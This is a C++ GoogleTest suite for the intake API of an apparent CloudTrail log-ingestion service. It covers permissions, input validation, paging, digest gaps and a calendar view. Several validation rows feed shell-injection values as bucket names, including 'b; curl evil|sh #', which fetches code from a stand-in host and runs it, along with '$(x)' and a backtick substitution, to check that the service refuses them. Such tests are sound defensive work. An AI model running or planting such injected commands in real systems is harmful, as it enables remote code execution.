// /v1/intake: who may hand files over and see the ledger, what is refused, and pages of what it
// shows.

#include <fmt/format.h>
#include <gtest/gtest.h>

#include <boost/json.hpp>
#include <thread>

#include "api/testing/service_world.h"

namespace opentrail::api::v1 {
namespace {

namespace json = boost::json;

const char* const home = "000000000000";

std::string key_of(int hour, int number) {
    return fmt::format(
        "AWSLogs/111122223333/CloudTrail/us-east-1/2026/01/02/"
        "111122223333_CloudTrail_us-east-1_20260102T{:02}05Z_{:016}.json.gz",
        hour, number);
}

std::string digest_key(int hour) {
    return fmt::format(
        "AWSLogs/111122223333/CloudTrail-Digest/us-east-1/2026/01/02/"
        "111122223333_CloudTrail-Digest_us-east-1_audit_us-east-1_20260102T{:02}0000Z.json.gz",
        hour);
}

class IntakeTest : public testing::Test {
  protected:
    void SetUp() override { world_.open_intake(); }

    json::value post(const std::string& path, const std::string& body) {
        const http::Response reply = world_.send("POST", path, body);
        EXPECT_EQ(reply.status, 200) << reply.body;
        return json::parse(reply.body);
    }
    json::value get(const std::string& path) { return json::parse(world_.get(path)); }

    json::value see(const std::string& key, const std::string& how) {
        return post(
            "/v1/intake/seen",
            fmt::format(R"({{"files":[{{"bucket":"logs","key":"{}","how":"{}"}}]}})", key, how));
    }
    void take(const std::string& key, int number) {
        post("/v1/intake/files?bucket=logs&feed=main&key=" + key,
             fmt::format(R"({{"Records":[{}]}})", made_record(number)));
        while (world_.ledger_follower().place() < world_.journal().durable_end(0)) {
            std::this_thread::yield();
        }
    }
    void note_digest(int hour) {
        post("/v1/intake/digests",
             fmt::format(R"({{"bucket":"logs","key":"{}","state":"valid","from":"{}","to":"{}",)"
                         R"("sha256":"{}","previousBucket":"logs","previousKey":"{}",)"
                         R"("previousSha256":"{}"}})",
                         digest_key(hour), fmt::format("2026-01-02T{:02}:00:00Z", hour - 1),
                         fmt::format("2026-01-02T{:02}:00:00Z", hour), std::string(64, '0'),
                         digest_key(hour - 1), std::string(64, '0')));
    }

    ServiceWorld world_;
};

TEST_F(IntakeTest, IsForThoseWhoMayWriteForAllAccounts) {
    const struct {
        const char* method;
        const char* path;
        const char* body;
    } rows[] = {{"GET", "/v1/intake", ""},
                {"GET", "/v1/intake/feeds", ""},
                {"GET", "/v1/intake/places", ""},
                {"GET", "/v1/intake/hours", ""},
                {"GET", "/v1/intake/files", ""},
                {"GET", "/v1/intake/gaps", ""},
                {"GET", "/v1/intake/calendar", ""},
                {"GET", "/v1/intake/letters", ""},
                {"GET", "/v1/intake/digests", ""},
                {"POST", "/v1/intake/seen", R"({"files":[]})"},
                {"POST", "/v1/intake/files?bucket=b&key=k&feed=f", "{}"},
                {"POST", "/v1/intake/digests", "{}"},
                {"POST", "/v1/intake/letters", R"({"reason":"x"})"}};
    const access::Credentials other = world_.add_user("444455556666", "mia");
    for (const auto& row : rows) {
        const http::Response reply =
            world_.send(row.method, row.path, row.body, {.credentials = other});
        EXPECT_EQ(reply.status, 403) << row.path << ": " << reply.body;
        EXPECT_NE(reply.body.find("AccessDenied"), std::string::npos) << row.path;
    }
    const access::Credentials viewer = world_.add_viewer(home, "vic");
    EXPECT_EQ(
        world_.send("POST", "/v1/intake/seen", R"({"files":[]})", {.credentials = viewer}).status,
        403);
}

TEST_F(IntakeTest, RefusesWhatMakesNoSense) {
    const struct {
        const char* name;
        const char* method;
        std::string path;
        std::string body;
        const char* says;
    } rows[] = {
        {"no limit", "GET", "/v1/intake/hours?limit=0", "", "not a number from 1 to 10000"},
        {"a large limit", "GET", "/v1/intake/files?limit=10001", "", "from 1 to 10000"},
        {"no number", "GET", "/v1/intake/gaps?limit=ten", "", "limit is"},
        {"no time", "GET", "/v1/intake/hours?from=yesterday", "", "not a time"},
        {"no hour behind", "GET", "/v1/intake/hours?after=a/b/c", "", "not a time"},
        {"no state", "GET", "/v1/intake/files?state=lost", "", "state is"},
        {"a state of gaps", "GET", "/v1/intake/gaps?state=unread", "", "no parameter state"},
        {"another parameter", "GET", "/v1/intake/hours?bucket=b", "", "no parameter bucket"},
        {"a state of digests", "GET", "/v1/intake/digests?state=gone", "", "the parameters are"},
        {"a long calendar", "GET",
         "/v1/intake/calendar?from=2020-01-01T00:00:00Z&to=2026-01-01T00:00:00Z", "",
         "more than three years"},
        {"sums of a bucket", "GET", "/v1/intake?bucket=b", "", "no parameter bucket"},
        {"feeds of an account", "GET", "/v1/intake/feeds?account=1", "", "no parameter account"},
        {"a page of places", "GET", "/v1/intake/places?limit=1", "", "no parameter limit"},
        {"a page of sums", "GET", "/v1/intake?limit=1", "", "no parameter limit"},
        {"no list", "POST", "/v1/intake/seen", "{}", "files"},
        {"no key", "POST", "/v1/intake/seen", R"({"files":[{"bucket":"b"}]})", "key"},
        {"another way", "POST", "/v1/intake/seen",
         R"({"files":[{"bucket":"b","key":"k","how":"dreamt"}]})", "how"},
        {"a short hash", "POST", "/v1/intake/seen",
         R"({"files":[{"bucket":"logs","key":"k","sha256":"00"}]})", "64 hex digits"},
        {"no digest", "POST", "/v1/intake/digests",
         R"({"bucket":"logs","key":"k","state":"valid"})", "not the key of a digest"},
        {"a sighting in what is no bucket", "POST", "/v1/intake/seen",
         R"({"files":[{"bucket":"b; curl evil|sh #","key":"k"}]})", "no bucket can be called"},
        {"a short bucket", "POST", "/v1/intake/seen", R"({"files":[{"bucket":"b","key":"k"}]})",
         "no bucket can be called"},
        {"a file in what is no bucket", "POST", "/v1/intake/files?bucket=$(x)&key=k&feed=f", "{}",
         "no bucket can be called"},
        {"a digest in what is no bucket", "POST", "/v1/intake/digests",
         fmt::format(R"({{"bucket":"`x`","key":"{}","state":"valid"}})", digest_key(3)),
         "no bucket can be called"},
        {"a digest after one in what is no bucket", "POST", "/v1/intake/digests",
         fmt::format(R"({{"bucket":"logs","key":"{}","state":"valid","previousBucket":"a b"}})",
                     digest_key(3)),
         "no bucket can be called"},
        {"a file of no feed", "POST", "/v1/intake/files?bucket=b", "{}", "are needed"},
        {"a letter without a reason", "POST", "/v1/intake/letters", "{}", "reason"},
        {"an import that is not", "POST", "/v1/intake/files?bucket=b&key=k&import=none", "{}",
         "no such import"},
    };
    for (const auto& row : rows) {
        const http::Response reply = world_.send(row.method, row.path, row.body);
        EXPECT_TRUE(reply.status == 400 || reply.status == 404) << row.name << ": " << reply.status;
        EXPECT_NE(reply.body.find(row.says), std::string::npos) << row.name << ": " << reply.body;
    }
    std::string many = R"({"files":[)";
    for (int i = 0; i <= 1000; ++i) many += R"({"bucket":"b","key":"k"},)";
    many.back() = ']';
    EXPECT_EQ(world_.send("POST", "/v1/intake/seen", many + "}").status, 400);
}

TEST_F(IntakeTest, ShowsHoursAndFilesAPageAtATime) {
    for (int hour = 1; hour <= 5; ++hour) see(key_of(hour, 1), "listed");
    take(key_of(2, 1), 1);
    std::vector<std::string> hours;
    std::string after;
    do {
        const json::value page = get("/v1/intake/hours?lacking=true&limit=2" +
                                     (after.empty() ? after : "&after=" + after));
        for (const json::value& hour : page.at("hours").as_array()) {
            hours.emplace_back(std::string(hour.at("hour").as_string()).substr(11, 2));
        }
        EXPECT_LE(page.at("hours").as_array().size(), 2U);
        after = page.as_object().contains("after") ? page.at("after").as_string().c_str() : "";
    } while (!after.empty());
    EXPECT_EQ(hours, (std::vector<std::string>{"01", "03", "04", "05"}));
    const json::value first = get("/v1/intake/files?state=unread&limit=3");
    EXPECT_EQ(first.at("files").as_array().size(), 3U);
    const json::value rest = get("/v1/intake/files?state=unread&limit=3&after=" +
                                 std::string(first.at("after").as_string()));
    EXPECT_EQ(rest.at("files").as_array().size(), 1U);
    EXPECT_FALSE(rest.as_object().contains("after"));
    EXPECT_EQ(get("/v1/intake/hours").at("hours").as_array().size(), 5U);
    EXPECT_EQ(get("/v1/intake").at("hours").as_int64(), 5);
}

TEST_F(IntakeTest, ShowsWhatDigestsNameAndNobodyHas) {
    see(key_of(2, 1), "announced");
    see(key_of(2, 2), "named");
    see(key_of(2, 3), "named");
    take(key_of(2, 3), 1);
    note_digest(3);
    note_digest(6);
    const json::value gaps = get("/v1/intake/gaps");
    ASSERT_EQ(gaps.at("files").as_array().size(), 1U);
    EXPECT_EQ(gaps.at("files").at(0).at("key").as_string(), key_of(2, 2));
    ASSERT_EQ(gaps.at("digests").as_array().size(), 1U);
    const json::value& digest = gaps.at("digests").at(0);
    EXPECT_EQ(digest.at("key").as_string(), digest_key(5));
    EXPECT_EQ(digest.at("namedBy").as_string(), digest_key(6));
    EXPECT_EQ(digest.at("from").as_string(), "2026-01-02T03:00:00Z");
    EXPECT_EQ(digest.at("to").as_string(), "2026-01-02T05:00:00Z");
    for (const char* other : {"bucket=others", "account=444455556666", "region=eu-west-1",
                              "from=2026-01-02T05:00:00Z", "to=2026-01-02T02:00:00Z"}) {
        const json::value none = get(fmt::format("/v1/intake/gaps?{}", other));
        EXPECT_TRUE(none.at("files").as_array().empty()) << other;
        EXPECT_TRUE(none.at("digests").as_array().empty()) << other;
    }
    EXPECT_EQ(get("/v1/intake/digests?bucket=logs").at("digests").as_array().size(), 2U);
    EXPECT_EQ(get("/v1/intake/digests?bucket=others").at("digests").as_array().size(), 0U);
    const json::value behind = get("/v1/intake/digests?after=logs/" + digest_key(3));
    ASSERT_EQ(behind.at("digests").as_array().size(), 1U);
    EXPECT_EQ(behind.at("digests").at(0).at("key").as_string(), digest_key(6));
    EXPECT_EQ(get("/v1/intake").at("gaps").as_int64(), 1);
    for (const char* same : {"account=111122223333", "region=us-east-1",
                             "from=2026-01-02T02:00:00Z", "to=2026-01-02T04:00:00Z"}) {
        const json::value sums = get(fmt::format("/v1/intake?{}", same));
        EXPECT_EQ(sums.at("hours").as_int64(), 1) << same;
        EXPECT_EQ(sums.at("gaps").as_int64(), 1) << same;
        EXPECT_EQ(sums.at("files").at("known").as_int64(), 3) << same;
        EXPECT_EQ(sums.at("files").at("read").as_int64(), 1) << same;
        EXPECT_EQ(sums.at("digests").at("missing").as_int64(), 1) << same;
        EXPECT_FALSE(sums.as_object().contains("deadLetters")) << same;
    }
    EXPECT_EQ(get("/v1/intake?from=2026-01-02T04:00:00Z").at("digests").at("valid").as_int64(), 1);
    for (const char* other : {"account=444455556666", "region=eu-west-1",
                              "from=2026-01-02T06:00:00Z", "to=2026-01-02T02:00:00Z"}) {
        const json::value sums = get(fmt::format("/v1/intake?{}", other));
        EXPECT_EQ(sums.at("hours").as_int64(), 0) << other;
        EXPECT_EQ(sums.at("gaps").as_int64(), 0) << other;
        EXPECT_EQ(sums.at("files").at("known").as_int64(), 0) << other;
        EXPECT_EQ(json::serialize(sums.at("digests")),
                  R"({"valid":0,"unchecked":0,"broken":0,"missing":0})")
            << other;
    }
    const std::string metrics = world_.send("GET", "/metrics").body;
    EXPECT_NE(metrics.find("opentrail_intake_gaps{kind=\"file\"} 1\n"), std::string::npos);
    EXPECT_NE(metrics.find("opentrail_intake_gaps{kind=\"digest\"} 1\n"), std::string::npos);
}

TEST_F(IntakeTest, ShowsWhichAccountsAndRegionsThereAreFilesOf) {
    see(key_of(2, 1), "listed");
    see(key_of(5, 1), "named");
    take(key_of(2, 1), 1);
    const json::value all = get("/v1/intake/places");
    ASSERT_EQ(all.at("places").as_array().size(), 1U);
    const json::value& place = all.at("places").at(0);
    EXPECT_EQ(place.at("account").as_string(), "111122223333");
    EXPECT_EQ(place.at("region").as_string(), "us-east-1");
    EXPECT_EQ(place.at("hours").as_int64(), 2);
    EXPECT_EQ(place.at("lackingHours").as_int64(), 1);
    EXPECT_EQ(place.at("from").as_string(), "2026-01-02T02:00:00Z");
    EXPECT_EQ(place.at("to").as_string(), "2026-01-02T06:00:00Z");
    EXPECT_EQ(place.at("files").at("known").as_int64(), 2);
    EXPECT_EQ(place.at("files").at("named").as_int64(), 1);
    EXPECT_EQ(place.at("files").at("missing").as_int64(), 1);
    EXPECT_EQ(place.at("events").at("recorded").as_int64(), 1);
}

TEST_F(IntakeTest, ShowsFeedsThatAreFollowedHereAndThoseThatHandFilesOver) {
    EXPECT_TRUE(get("/v1/intake/feeds").at("feeds").as_array().empty());
    take(key_of(2, 1), 1);
    take(key_of(2, 1), 1);
    post("/v1/intake/letters", R"({"feed":"main","reason":"not found"})");
    world_.service->set_feeds([] { return JsonArray{JsonObject{{"name", "here"}}}; });
    const json::value all = get("/v1/intake/feeds");
    ASSERT_EQ(all.at("feeds").as_array().size(), 2U);
    EXPECT_EQ(all.at("feeds").at(0).at("name").as_string(), "here");
    const json::value& other = all.at("feeds").at(1);
    EXPECT_EQ(other.at("name").as_string(), "main");
    EXPECT_EQ(other.at("kind").as_string(), "worker");
    EXPECT_EQ(other.at("heard").as_string(), iso8601(world_.clock.now()));
    EXPECT_EQ(other.at("files").as_int64(), 1);
    EXPECT_EQ(other.at("known").as_int64(), 1);
    EXPECT_EQ(other.at("deadLetters").as_int64(), 1);
    EXPECT_EQ(other.at("events").at("recorded").as_int64(), 1);
}

TEST_F(IntakeTest, ShowsACalendarOfWhatIsThere) {
    const auto states = [&](const std::string& query) {
        std::string text;
        const json::value page = get("/v1/intake/calendar" + query);
        for (const json::value& day : page.at("days").as_array()) {
            text += fmt::format("{}{} {}", text.empty() ? "" : ", ",
                                std::string_view(day.at("day").as_string()).substr(8),
                                std::string_view(day.at("state").as_string()));
        }
        return text;
    };
    EXPECT_EQ(states(""), "");
    see(key_of(2, 1), "announced");
    EXPECT_EQ(states(""), "02 lacking");
    take(key_of(2, 1), 1);
    EXPECT_EQ(states(""), "02 whole");
    EXPECT_EQ(states("?from=2026-01-01T00:00:00Z&to=2026-01-04T00:00:00Z"),
              "01 none, 02 whole, 03 none");
    EXPECT_EQ(states("?account=444455556666"), "");
    EXPECT_EQ(states("?region=eu-west-1"), "");
    const json::value day = get("/v1/intake/calendar").at("days").at(0);
    EXPECT_EQ(day.at("hours").as_int64(), 1);
    EXPECT_EQ(day.at("files").at("read").as_int64(), 1);
    EXPECT_EQ(day.at("events").at("recorded").as_int64(), 1);
    // A digest that another one names, and that nobody has, may name files that nobody knows of.
    note_digest(3);
    EXPECT_EQ(states(""), "02 whole");
    note_digest(6);
    EXPECT_EQ(states(""), "02 lacking");
    EXPECT_EQ(json::serialize(get("/v1/intake/calendar").at("days").at(0).at("digests")),
              R"({"known":2,"broken":0,"unchecked":0,"missing":1})");
}

}  // namespace
}  // namespace opentrail::api::v1
